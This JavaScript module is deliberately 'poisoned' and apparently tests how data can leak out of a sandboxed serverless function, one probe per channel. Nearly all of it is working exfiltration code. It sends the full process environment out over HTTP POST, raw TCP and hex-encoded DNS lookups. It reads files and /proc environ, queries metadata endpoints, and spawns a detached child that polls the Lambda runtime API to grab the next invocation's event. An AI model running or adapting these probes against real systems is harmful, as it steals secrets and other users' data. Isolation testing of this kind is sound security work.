// POISONED, ON PURPOSE. The ways out of a function that we know of, each as one probe. See README.md.
import { spawn } from 'node:child_process'
import { Resolver } from 'node:dns/promises'
import { readdir, readFile, stat } from 'node:fs/promises'
import { connect } from 'node:net'

import { stolen } from './build-time.js'

const patienceMs = 4000

/** What a real thief would be after. */
const loot = () => JSON.stringify(process.env)

const kinds = {
  async http({ url, headers = {}, body = loot() }) {
    const isRead = url.includes('meta-data')
    const answer = await fetch(url, {
      method: isRead ? 'GET' : 'POST',
      headers: { 'content-type': 'application/json', ...headers },
      ...(isRead ? {} : { body }),
      signal: AbortSignal.timeout(patienceMs),
    })
    const text = await answer.text()
    return { got: answer.ok, result: `HTTP ${answer.status} ${summary(text)}` }
  },

  tcp: ({ host, port }) =>
    new Promise((resolve, reject) => {
      const socket = connect({ host, port })
      let received = ''
      socket.setTimeout(patienceMs, () => socket.destroy(new Error('no answer')))
      socket.on('connect', () => socket.end(loot()))
      socket.on('data', (bytes) => (received += bytes.toString('latin1')))
      socket.on('error', reject)
      // A listener of the box itself may accept and hang up; only an answer shows that somebody was there.
      socket.on('close', () => resolve({ got: received.startsWith('received'), result: heard(received) }))
    }),

  async dns({ suffix, server }) {
    const resolver = new Resolver({ timeout: patienceMs, tries: 1 })
    if (server !== undefined) resolver.setServers([server])
    const data = Buffer.from(loot()).toString('hex').slice(0, 60)
    const addresses = await resolver.resolve4(`${data}.${suffix}`)
    return { got: true, result: addresses.join(' ') }
  },

  async file({ path }) {
    const found = (await stat(path)).isDirectory() ? (await readdir(path)).join(' ') : await readFile(path, 'latin1')
    // An empty folder of the box, or the box's own empty environment, is nothing.
    return { got: found.length > 0, result: found.length > 0 ? `read ${found.length} characters` : 'empty' }
  },

  async environ({ path }) {
    const names = (await readFile(path, 'latin1'))
      .split('\0')
      .map((pair) => pair.split('=')[0])
      .filter(Boolean)
    // What a shell says of itself is no loot.
    const taken = names.filter((name) => !['PWD', 'OLDPWD', 'SHLVL', '_'].includes(name))
    return {
      got: taken.length > 0,
      result: taken.length > 0 ? `read ${taken.join(' ')}` : `empty ${names.join(' ')}`.trim(),
    }
  },

  child: ({ runtimeApi }) =>
    new Promise((resolve, reject) => {
      const child = spawn(process.execPath, ['-e', leftoverChild, runtimeApi], {
        detached: true,
        stdio: ['ignore', 'pipe', 'ignore'],
      })
      let heardFromChild = ''
      child.stdout.on('data', (bytes) => (heardFromChild += bytes))
      child.on('error', reject)
      child.on('exit', (code, signal) => {
        const words = heardFromChild.trim() || `the child ended: ${signal ?? code}`
        resolve({ got: words.startsWith('event'), result: words })
      })
    }),

  async build({ stolen: way }) {
    const what = stolen[way]
    // The bundler left the path alone, or put an error in its place: nothing was read.
    if (what instanceof Error && /require|find module|resolve|outside/i.test(what.message)) throw what
    return { got: true, result: `bundled a file of the build machine: ${what.message ?? typeof what}` }
  },
}

// Outlives the call that started it and asks for the next event in the function's place.
const leftoverChild = `
  const until = Date.now() + 3000
  let last = 'no answer'
  const poll = async () => {
    if (Date.now() > until) return console.log(last)
    try {
      const signal = AbortSignal.timeout(Math.max(until - Date.now(), 1))
      const next = await fetch('http://' + process.argv[1] + '/2018-06-01/runtime/invocation/next', { signal })
      const text = await next.text()
      if (next.ok) return console.log('event of ' + text.length + ' characters')
      last = 'HTTP ' + next.status
    } catch (error) {
      // Our own impatience at the end says nothing of what was met before.
      if (error.name !== 'TimeoutError') last = (error.cause ?? error).code ?? error.name
    }
    setTimeout(poll, 100)
  }
  setTimeout(poll, 150)`

export async function probe(route) {
  try {
    return await kinds[route.kind](route)
  } catch (error) {
    const cause = error?.cause ?? error
    return { got: false, result: String(cause?.code ?? cause?.message ?? cause).slice(0, 200) }
  }
}

/** A refusal's own code and id where the answer is one, else its beginning. */
function summary(text) {
  try {
    const { code, id } = JSON.parse(text)
    if (code !== undefined) return `${code} ${id ?? ''}`.trim()
  } catch {
    // Not a refusal: its beginning will do.
  }
  return text.slice(0, 80)
}

function heard(received) {
  return received === '' ? 'closed without an answer' : `answered ${JSON.stringify(received.slice(0, 40))}`
}
